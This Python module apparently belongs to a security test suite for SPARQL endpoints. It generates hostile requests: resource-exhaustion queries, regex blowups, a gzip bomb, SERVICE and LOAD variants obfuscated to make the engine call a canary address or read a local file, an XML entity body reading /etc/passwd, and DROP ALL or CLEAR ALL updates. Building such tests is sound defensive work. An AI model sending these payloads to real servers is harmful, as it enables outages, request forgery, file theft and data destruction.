"""Hostile requests by class: what the engines of this field are known to die of, hang on, or be misled by.

An `Attack` says nothing about its answer. Whatever the server does, it must do soon, with a 4xx, a 503, or the right
answer.
"""

from __future__ import annotations

import gzip
from collections.abc import Iterator
from dataclasses import dataclass, field
from urllib.parse import quote, urlencode

__all__ = ["Attack", "attacks", "queries_that_call_out"]

_DIRECT = "application/sparql-query"
_FORM = "application/x-www-form-urlencoded"


@dataclass(frozen=True)
class Attack:
    """One request: its class and name, method, path, headers and body."""

    name: str
    path: str = "/sparql"
    method: str = "GET"
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes = b""


def _asked(name: str, query: str) -> Attack:
    """Return the query as a direct POST, which takes the longest texts."""
    return Attack(name, method="POST", headers={"Content-Type": _DIRECT}, body=query.encode("utf-8", "surrogatepass"))


def _nesting() -> Iterator[Attack]:
    for depth in (60, 600, 2_208, 20_000):
        yield _asked(f"nesting: {depth} braces", "SELECT * " + "{" * depth + "}" * depth)
    for depth in (60, 5_000, 30_000):
        yield _asked(f"nesting: {depth} brackets", f"SELECT ({'(' * depth}1{')' * depth} AS ?x) {{}}")
    yield _asked("nesting: never closed", "SELECT * " + "{" * 60_000)
    yield _asked("nesting: subqueries", "SELECT * {" * 60 + "}" * 60)
    yield _asked("nesting: OPTIONAL", "SELECT * {" + "?a ?b ?c OPTIONAL {" * 60 + "}" * 61)
    yield _asked("nesting: UNION", "SELECT * {" + "{{?a ?b ?c} UNION " * 30 + "{}" + "}" * 31)
    yield _asked("nesting: NOT EXISTS", "SELECT * {" + "FILTER NOT EXISTS {" * 60 + "?a ?b ?c" + "}" * 61)
    yield _asked("nesting: lists", "SELECT * { ?a ?b " + "(" * 60 + ")" * 60 + " }")
    yield _asked("nesting: blank nodes", "SELECT * { ?a ?b " + "[ ?p " * 5_000 + "1" + "]" * 5_000 + " }")
    yield _asked("nesting: minus signs", f"SELECT ({'-' * 30_000}1 AS ?x) {{}}")
    yield _asked("nesting: exclamation marks", f"SELECT ({'!' * 30_000}true AS ?x) {{}}")
    yield _asked("nesting: quoted triples", "SELECT * { ?a ?b " + "<<( ?s ?p " * 2_000 + "1" + ")>>" * 2_000 + " }")


def _planning() -> Iterator[Attack]:
    star = " ".join(f"?s ?p{n} ?o{n} ." for n in range(99))
    yield _asked("planner: star of 99 patterns", f"SELECT * {{ {star} }}")
    yield _asked(
        "planner: star of 128 patterns", "SELECT * {" + " ".join(f"?s <u:{n}> ?o{n} ." for n in range(128)) + "}"
    )
    yield _asked("planner: star by semicolons", "SELECT * { ?s ?p0 ?o0 " + "; ?p ?o " * 5_000 + "}")
    yield _asked("planner: star by commas", "SELECT * { ?s ?p ?o0 " + ", ?o " * 5_000 + "}")
    yield _asked("planner: chain", "SELECT * {" + " ".join(f"?v{n} ?p{n} ?v{n + 1} ." for n in range(99)) + "}")
    yield _asked(
        "planner: clique", "SELECT * {" + " ".join(f"?v{a} <u:p> ?v{b} ." for a in range(14) for b in range(a)) + "}"
    )
    groups = " ".join("{" + " ".join(f"?s{g} ?p{g}{n} ?o{g}{n} ." for n in range(40)) + "}" for g in range(10))
    yield _asked("planner: groups of stars", f"SELECT * {{ {groups} }}")
    unions = " ".join(f"{{ ?a{n} ?b ?c }} UNION {{ ?d ?e ?a{n} }}" for n in range(30))
    yield _asked("planner: joined unions", f"SELECT * {{ {unions} }}")
    yield _asked(
        "planner: optionals",
        "SELECT * { ?s ?p ?o " + " ".join(f"OPTIONAL {{ ?s ?p{n} ?o{n} }}" for n in range(40)) + "}",
    )
    filters = " ".join(f"FILTER(?o{n} != ?o{n + 1} || ?o{n} = ?s)" for n in range(40))
    yield _asked("planner: filters", f"SELECT * {{ {' '.join(f'?s ?p{n} ?o{n} .' for n in range(41))} {filters} }}")
    yield _asked(
        "planner: disjunction", f"SELECT * {{ ?s ?p ?o FILTER({' || '.join(f'?o = {n}' for n in range(5_000))}) }}"
    )
    yield _asked("planner: deep path", f"SELECT * {{ ?s {'/'.join(['<u:p>'] * 10_000)} ?o }}")
    yield _asked("planner: nested path", f"SELECT * {{ ?s {'(' * 60}<u:p>{')*' * 60} ?o }}")
    yield _asked("planner: path of choices", f"SELECT * {{ ?s ({'|'.join(['<u:p>'] * 10_000)})+ ?o }}")


def _volume() -> Iterator[Attack]:
    cross = "?a ?b ?c . ?d ?e ?f . ?g ?h ?i"
    values = " ".join(f"VALUES ?v{n} {{ {' '.join(str(v) for v in range(100))} }}" for n in range(9))
    yield _asked("cross product: streamed", f"SELECT * {{ {cross} }}")
    yield _asked("cross product: counted", f"SELECT (COUNT(*) AS ?n) {{ {cross} }}")
    yield _asked("cross product: distinct", f"SELECT DISTINCT ?a ?d ?g {{ {cross} }}")
    yield _asked("cross product: constructed", f"CONSTRUCT {{ ?a ?e ?i }} WHERE {{ {cross} }}")
    yield _asked("cross product: never true", f"ASK {{ {cross} FILTER(?a = 1) }}")
    yield _asked("cross product: of VALUES", f"SELECT * {{ {values} }}")
    yield _asked("cross product: of VALUES, counted", f"SELECT (COUNT(*) AS ?n) {{ {values} }}")
    yield _asked("cross product: behind OFFSET", f"SELECT * {{ {cross} }} OFFSET 999999999999")
    yield _asked("cross product: MINUS", "SELECT * { ?a ?b ?c . ?d ?e ?f MINUS { ?c ?x ?y . ?z ?v ?w } }")
    yield _asked("memory: ORDER BY", f"SELECT * {{ {cross} }} ORDER BY ?a ?d ?g")
    yield _asked("memory: ORDER BY RAND", f"SELECT * {{ {cross} }} ORDER BY RAND() LIMIT 1")
    yield _asked("memory: GROUP BY", f"SELECT ?a ?d ?g (COUNT(*) AS ?n) {{ {cross} }} GROUP BY ?a ?d ?g")
    yield _asked("memory: GROUP_CONCAT", f"SELECT (GROUP_CONCAT(STR(?a)) AS ?x) {{ {cross} }}")
    yield _asked(
        "memory: COUNT DISTINCT", f"SELECT (COUNT(DISTINCT CONCAT(STR(?a), STR(?e), STR(?i))) AS ?n) {{ {cross} }}"
    )
    doubled = " ".join(f"BIND(CONCAT(?x{n}, ?x{n}) AS ?x{n + 1})" for n in range(45))
    yield _asked("memory: CONCAT doubled", f'SELECT ?x45 {{ BIND("xxxxxxxxxx" AS ?x0) {doubled} }}')
    replaced = " ".join(f'BIND(REPLACE(?x{n}, "", "xxxxxxxxxx") AS ?x{n + 1})' for n in range(12))
    yield _asked("memory: REPLACE", f'SELECT ?x12 {{ BIND("x" AS ?x0) {replaced} }}')
    encoded = " ".join(f"BIND(ENCODE_FOR_URI(CONCAT(?x{n}, ?x{n}, ?x{n})) AS ?x{n + 1})" for n in range(20))
    yield _asked("memory: ENCODE_FOR_URI", f'SELECT ?x20 {{ BIND("é%" AS ?x0) {encoded} }}')
    yield _asked("memory: STRDT", f'SELECT (STRDT("{"9" * 50_000}", xsd:decimal) * 2 AS ?x) {{}}')
    yield _asked("processor: hashes", f"SELECT (MAX(SHA512(CONCAT(STR(?a), STR(?e), STR(?i)))) AS ?x) {{ {cross} }}")
    yield _asked("processor: NOT EXISTS", "SELECT * { ?a ?b ?c . ?d ?e ?f FILTER NOT EXISTS { ?c ?x ?y . ?f ?y ?z } }")
    yield _asked(
        "VALUES: 9,000 rows twice", "SELECT * { VALUES ?a { %s } VALUES ?b { %s } }" % ((" ".join(["1"] * 9_000),) * 2)
    )
    yield _asked("VALUES: 30,000 rows", f"SELECT * {{ VALUES ?a {{ {'1 ' * 30_000} }} }}")
    yield _asked("IN: 20,000 members", f"SELECT * {{ ?s ?p ?o FILTER(?o IN ({', '.join(['1'] * 20_000)})) }}")
    yield _asked("literal: 60 kB", f'ASK {{ ?s ?p "{"x" * 60_000}" }}')
    yield _asked("IRI: 60 kB", f"ASK {{ ?s ?p <http://x/{'x' * 60_000}> }}")
    yield _asked("name: 60 kB", f"SELECT ?{'x' * 60_000} {{ ?s ?p ?o }}")


def _paths() -> Iterator[Attack]:
    anything = "(!<u:none>)"
    yield _asked("path: star between variables", f"SELECT (COUNT(*) AS ?n) {{ ?a {anything}* ?b }}")
    yield _asked("path: both ways", f"SELECT (COUNT(*) AS ?n) {{ ?a ({anything}|^{anything})* ?b }}")
    yield _asked("path: star of stars", f"SELECT (COUNT(*) AS ?n) {{ ?a (({anything}*)*|(^{anything})*)* ?b }}")
    yield _asked("path: sequence of stars", f"SELECT (COUNT(*) AS ?n) {{ ?a {anything}*/^{anything}*/{anything}* ?b }}")
    yield _asked("path: long sequence", f"SELECT (COUNT(*) AS ?n) {{ ?a {'/'.join([anything] * 40)} ?b }}")
    yield _asked(
        "path: there and back", f"SELECT (COUNT(*) AS ?n) {{ ?a {'/'.join([anything, '^' + anything] * 12)} ?b }}"
    )
    yield _asked("path: distinct pairs", f"SELECT DISTINCT ?a ?b {{ ?a ({anything}|^{anything})+ ?b }} ORDER BY ?b")
    yield _asked("path: any graph", f"SELECT (COUNT(*) AS ?n) {{ GRAPH ?g {{ ?a ({anything}|^{anything})* ?b }} }}")


def _patterns() -> Iterator[Attack]:
    for name, pattern, text in (
        ("nested quantifiers", "(a+)+$", "a" * 5_000 + "!"),
        ("choices", "(a|aa|aaa)*b", "a" * 5_000),
        ("counted", "((a{0,100}){0,100}){0,100}", "a" * 1_000),
        ("counted far", "a{1000}{1000}", "a"),
        ("classes", "(.*)(.*)(.*)(.*)(.*)(.*)(.*)(.*)x", "a" * 20_000),
        ("unicode", r"(\\p{L}+\\p{M}*)*\\p{N}", "é" * 5_000),
        ("never closed", "(((((((", "a"),
    ):
        yield _asked(f"regex: {name}", f'SELECT * {{ ?s ?p ?o FILTER(REGEX("{text}", "{pattern}")) }} LIMIT 5')
    yield _asked("regex: from the data", "SELECT * { ?a ?b ?c . ?d ?e ?f FILTER(REGEX(STR(?c), STR(?f))) } LIMIT 5")
    yield _asked("regex: REPLACE", f'SELECT (REPLACE("{"a" * 20_000}", "(a*)*", "$1$1") AS ?x) {{}}')


def queries_that_call_out(canary: str, file: str) -> dict[str, str]:
    """Return queries that would call the address, or read the file, in an engine that lets them."""
    service = f"SERVICE <{canary}> {{ ?s ?p ?o }}"
    escaped = "".join(f"\\u{ord(letter):04X}" for letter in "SERVICE")
    host, _, port = canary.removeprefix("http://").rstrip("/").partition(":")
    return {
        "SERVICE": f"SELECT * {{ {service} }}",
        "SERVICE SILENT": f"SELECT * {{ SERVICE SILENT <{canary}> {{ ?s ?p ?o }} }}",
        "SERVICE in lower case": f"SELECT * {{ service<{canary}>{{?s ?p ?o}} }}",
        "SERVICE of a variable": f"SELECT * {{ VALUES ?u {{ <{canary}> }} SERVICE ?u {{ ?s ?p ?o }} }}",
        "SERVICE of a bound variable": f'SELECT * {{ BIND(IRI("{canary}") AS ?u) SERVICE ?u {{ ?s ?p ?o }} }}',
        "SERVICE of a name": f"PREFIX c: <{canary}> SELECT * {{ SERVICE c: {{ ?s ?p ?o }} }}",
        "SERVICE of a name with escapes": f"PREFIX c: <{canary}> SELECT * {{ SERVICE c:x\\-y {{ ?s ?p ?o }} }}",
        "SERVICE of a relative IRI": f"BASE <{canary}> SELECT * {{ SERVICE <> {{ ?s ?p ?o }} }}",
        "SERVICE behind comments": f"SELECT * {{ SERVICE # {{\n SILENT #\n <{canary}> #\n {{ ?s ?p ?o }} }}",
        "SERVICE in escapes": f"SELECT * {{ {escaped} <{canary}> {{ ?s ?p ?o }} }}",
        "SERVICE partly in escapes": f"SELECT * {{ SERV\\u0049CE <{canary}> {{ ?s ?p ?o }} }}",
        "SERVICE in long escapes": f"SELECT * {{ \\U00000053ERVICE <{canary}> {{ ?s ?p ?o }} }}",
        "SERVICE to an escaped brace": f"SELECT * {{ SERVICE <{canary}> \\u007B ?s ?p ?o }} }}",
        "SERVICE in a subquery": f"SELECT * {{ {{ SELECT * {{ {service} }} }} }}",
        "SERVICE in OPTIONAL": f"SELECT * {{ OPTIONAL {{ {service} }} }}",
        "SERVICE in EXISTS": f"SELECT * {{ ?s ?p ?o FILTER EXISTS {{ {service} }} }}",
        "SERVICE in MINUS": f"SELECT * {{ ?s ?p ?o MINUS {{ {service} }} }}",
        "SERVICE in SELECT": f"SELECT (EXISTS {{ {service} }} AS ?x) {{}}",
        "SERVICE in HAVING": f"SELECT ?s {{ ?s ?p ?o }} GROUP BY ?s HAVING (EXISTS {{ {service} }})",
        "SERVICE in ORDER BY": f"SELECT ?s {{ ?s ?p ?o }} ORDER BY (EXISTS {{ {service} }}) LIMIT 1",
        "SERVICE in ASK": f"ASK {{ {service} }}",
        "SERVICE in CONSTRUCT": f"CONSTRUCT {{ ?s ?p ?o }} WHERE {{ {service} }}",
        "SERVICE in DESCRIBE": f"DESCRIBE ?s {{ {service} }}",
        "SERVICE of a number touching": f"SELECT * {{ FILTER(1=1SERVICE <{canary}> {{}}) }}",
        "SERVICE by ftp": f"SELECT * {{ SERVICE <ftp://{host}:{port}/> {{ ?s ?p ?o }} }}",
        "SERVICE by https": f"SELECT * {{ SERVICE <https://{host}:{port}/> {{ ?s ?p ?o }} }}",
        "SERVICE of a file": f"SELECT * {{ SERVICE <{file}> {{ ?s ?p ?o }} }}",
        "FROM": f"SELECT * FROM <{canary}> {{ ?s ?p ?o }}",
        "FROM NAMED": f"SELECT * FROM NAMED <{canary}> {{ GRAPH ?g {{ ?s ?p ?o }} }}",
        "FROM a file": f"SELECT * FROM <{file}> {{ ?s ?p ?o }}",
        "FROM NAMED a file": f"SELECT * FROM NAMED <{file}> {{ GRAPH ?g {{ ?s ?p ?o }} }}",
        "GRAPH": f"SELECT * {{ GRAPH <{canary}> {{ ?s ?p ?o }} }}",
        "DESCRIBE": f"DESCRIBE <{canary}>",
        "LOAD": f"LOAD <{canary}>",
        "LOAD SILENT": f"LOAD SILENT <{canary}> INTO GRAPH <u:g>",
        "LOAD a file": f"LOAD <{file}>",
        "LOAD behind a query": f"ASK {{}} ; LOAD <{canary}>",
        "LOAD in escapes": f"L\\u004FAD <{canary}>",
        "INSERT with SERVICE": f"INSERT {{ ?s ?p ?o }} WHERE {{ {service} }}",
        "USING": f"DELETE {{ ?s ?p ?o }} USING <{canary}> WHERE {{ ?s ?p ?o }}",
    }


def _outward(canary: str, file: str) -> Iterator[Attack]:
    for name, query in queries_that_call_out(canary, file).items():
        yield _asked(f"out: {name}", query)
    for name, parameter in (("default", "default-graph-uri"), ("named", "named-graph-uri")):
        for target in (canary, file):
            pairs = {"query": "SELECT * { { ?s ?p ?o } UNION { GRAPH ?g { ?s ?p ?o } } }", parameter: target}
            yield Attack(f"out: {name} graph of the request {target[:4]}", f"/sparql?{urlencode(pairs)}")


def _updates(canary: str) -> Iterator[Attack]:
    for update in ("DROP ALL", "CLEAR ALL", "INSERT DATA { <u:a> <u:b> 1 }", f"LOAD <{canary}>"):
        word = update.split()[0]
        yield Attack(f"update: {word} by GET", f"/sparql?{urlencode({'update': update})}")
        yield Attack(f"update: {word} as a query", f"/sparql?{urlencode({'query': update})}")
        body = urlencode({"update": update}).encode()
        yield Attack(f"update: {word} as a form", method="POST", headers={"Content-Type": _FORM}, body=body)
        direct = {"Content-Type": "application/sparql-update"}
        yield Attack(f"update: {word} directly", method="POST", headers=direct, body=update.encode())
    for method in ("PUT", "DELETE", "PATCH"):
        turtle = {"Content-Type": "text/turtle"}
        yield Attack(f"update: {method} of a graph", "/sparql?default", method, turtle, b"<u:a> <u:b> 1 .")
    context = b'{"@context": "' + canary.encode() + b'", "@id": "u:a"}'
    yield Attack(
        "update: JSON-LD with a context", method="POST", headers={"Content-Type": "application/ld+json"}, body=context
    )
    entities = b'<!DOCTYPE r [<!ENTITY a "x"><!ENTITY b SYSTEM "file:///etc/passwd">]><r>&b;</r>'
    yield Attack(
        "update: XML with entities", method="POST", headers={"Content-Type": "application/rdf+xml"}, body=entities
    )


#: Bodies of a query that is sent directly.
_BODIES = {
    "bytes": bytes(range(256)),
    "overlong": b'ASK { ?s ?p "\xc0\xaf" }',
    "surrogates": b'ASK { ?s ?p "\xed\xa0\x80" }',
    "null": b'ASK { ?s ?p "\x00" }',
    "cut short": 'ASK { ?s ?p "é" }'.encode()[:14],
    "byte order mark": b"\xef\xbb\xbfASK {}",
    "bidi": 'ASK { ?s ?p "\u202e\u2066" }'.encode(),
    "escaped surrogates": b'ASK { ?s ?p "\\uD800\\uDC00" }',
    "escape past Unicode": b'ASK { ?s ?p "\\UFFFFFFFF" }',
    "only comments": b"#\n" * 30_000,
    "only spaces": b" " * 60_000,
    "only prefixes": b"".join(b"PREFIX p%d: <u:x>\n" % n for n in range(2_500)) + b"ASK {}",
    "one quotation mark": b'ASK { ?s ?p "' + b"x" * 60_000,
    "quotation marks": b"ASK { ?s ?p " + b'"' * 60_000,
    "backslashes": b'ASK { ?s ?p "' + b"\\" * 60_000,
    "angle brackets": b"ASK { ?s ?p " + b"<" * 60_000,
    "quotation marks and backslashes": b"ASK { ?s ?p " + b'"\\' * 30_000,
    "SERVICE without end": b"SERVICEx" * 8_000,
    "SERVICE in comments": b"#SERVICE#" * 7_000,
    "words like SERVICE": b"SERVICE " * 8_000,
    "SERVICE and names": b"SERVICE x" * 7_000,
    "FROM clauses": b"SELECT * " + b"FROM <u:g> " * 5_000 + b"{ ?s ?p ?o }",
}
_TYPES = (
    "text/plain",
    "application/json",
    "multipart/form-data",
    "application/octet-stream",
    "",
    "a/b;c",
    "x" * 500,
)
_CHARSETS = ("utf-16", "utf-7", "latin-1", "rot13", "nonsense")


def _posted(name: str, media_type: str, body: bytes, **headers: str) -> Attack:
    given = {"Content-Type": media_type, **{name.replace("_", "-"): value for name, value in headers.items()}}
    return Attack(f"message: {name}", method="POST", headers=given, body=body)


def _bodies() -> Iterator[Attack]:
    query = b"SELECT * { ?s ?p ?o } LIMIT 1"
    yield _posted("compressed bomb", _DIRECT, gzip.compress(b"#" * 50_000_000), Content_Encoding="gzip")
    for kind in _TYPES:
        yield _posted(f"type '{kind[:20]}'", kind, query)
    for charset in _CHARSETS:
        yield _posted(f"charset {charset}", f"{_DIRECT}; charset={charset}", query)
    for name, body in _BODIES.items():
        yield _posted(name, _DIRECT, body)
    yield _posted("many fields", _FORM, b"&".join(b"a%d=b" % n for n in range(20_000)) + b"&query=ASK%7B%7D")
    part = b'--x\r\nContent-Disposition: form-data; name="query"\r\n\r\nASK{}\r\n'
    yield _posted("many parts", "multipart/form-data; boundary=x", part * 2_000 + b"--x--\r\n")


def _addresses() -> Iterator[Attack]:
    ask = "/sparql?query=ASK%7B%7D"
    yield Attack("message: many queries", "/sparql?" + "&".join(["query=ASK%7B%7D"] * 3_000))
    yield Attack("message: many graphs", f"{ask}&" + "&".join(["default-graph-uri=u:g"] * 2_500))
    for name, headers in (
        ("long Accept", {"Accept": ", ".join(f"a/b{n};q=0.{n}" for n in range(900))}),
        ("odd Accept", {"Accept": ";;;,,q=,*/*;q=nan,text/csv;q=-1e999"}),
        ("long If-None-Match", {"If-None-Match": ", ".join(['W/"x"'] * 3_000)}),
    ):
        yield Attack(f"message: {name}", ask, headers=headers)
    for parameter in (
        "timeout=1e999",
        "timeout=NaN",
        "timeout=-0",
        "format=%00",
        "labels=%7D",
        "default-graph-uri=%3Cx%3E",
    ):
        yield Attack(f"message: {parameter}", f"{ask}&{parameter}")
    everything = "SELECT * { ?a ?b ?c . ?d ?e ?f }"
    bomb = "SELECT * { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i } ORDER BY ?a"
    graph = "CONSTRUCT { ?a ?e ?i } WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }"
    for name, option, query in (
        ("page of everything", "format=html", everything),
        ("page of a bomb", "format=html", bomb),
        ("labels of everything", "labels=en", everything),
        *((f"endless graph as {fmt}", f"format={fmt}", graph) for fmt in ("ttl", "rdf", "jsonld", "trig")),
    ):
        yield Attack(f"message: {name}", f"/sparql?{option}&query={quote(query)}")


def attacks(canary: str, file: str) -> list[Attack]:
    """Return all of them; the address and the file are those that must not be asked and read."""
    return [
        *_nesting(),
        *_planning(),
        *_volume(),
        *_paths(),
        *_patterns(),
        *_outward(canary, file),
        *_updates(canary),
        *_bodies(),
        *_addresses(),
    ]
